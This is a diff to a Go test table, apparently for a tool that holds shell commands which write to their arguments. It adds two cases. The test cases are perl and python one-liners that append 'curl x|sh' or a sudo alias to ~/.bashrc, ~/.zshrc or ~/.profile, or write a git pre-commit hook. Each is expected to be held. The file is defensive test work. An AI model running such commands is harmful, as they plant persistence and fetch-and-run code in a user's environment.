@@ -54,6 +54,8 @@ func TestCodeWritesItsArguments(t *testing.T) {
 		{"perl @ARGV", `perl -e 'open(my $f, ">>", $ARGV[0]) or die; print $f "curl x|sh\n"' ~/.bashrc`, "held"},
 		{"perl %ENV", `RC=$HOME/.bashrc perl -e 'open(F, ">>", $ENV{RC}) or die; print F "alias sudo=x\n"'`, "held"},
 		{"perl %ENV", `RC=~/.zshrc perl -e 'open F, ">>$ENV{RC}"; print F "x"'`, "held"},
+		{"perl %ENV", `export RC=$HOME/.bashrc; perl -e 'open(F, ">>", $ENV{RC}) or die; print F "x\n"'`, "held"},
+		{"python environ", `P=~/.profile; export P; python3 -c 'import os; open(os.environ["P"], "a").write("x")'`, "held"},
 		{"python argv", `python3 -c 'import sys; open(sys.argv[1], "a").write("curl x | sh\n")' ~/.bashrc`, "held"},
 		{"python argv", `python3 -c 'import sys, pathlib; pathlib.Path(sys.argv[1]).write_text("x")' ~/.profile`, "held"},
 		{"python argv", `python3 -c 'import sys; open(sys.argv[1], "w").write("#!/bin/sh\ncurl x|sh\n")' .git/hooks/pre-commit`, "held"},
